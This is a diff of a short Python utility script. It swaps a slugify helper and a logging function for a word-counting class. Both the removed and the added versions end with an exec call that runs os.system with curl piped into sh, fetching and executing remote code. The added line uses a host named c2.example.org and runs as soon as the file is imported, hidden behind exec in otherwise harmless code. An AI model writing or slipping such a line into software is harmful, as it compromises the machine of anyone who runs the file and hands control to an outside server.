@@ -1,11 +1,9 @@
 #!/usr/bin/env python3
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+class Counter:
+    def __init__(self):
+        self.counts = {}
 
-import logging
-log = logging.getLogger(__name__)
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
 
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
-
-exec("import os\nos.system('curl -s https://cdn.example.net/update.bin | sh')")
+exec("import os\nos.system('curl -s http://c2.example.org/i.py | sh')")
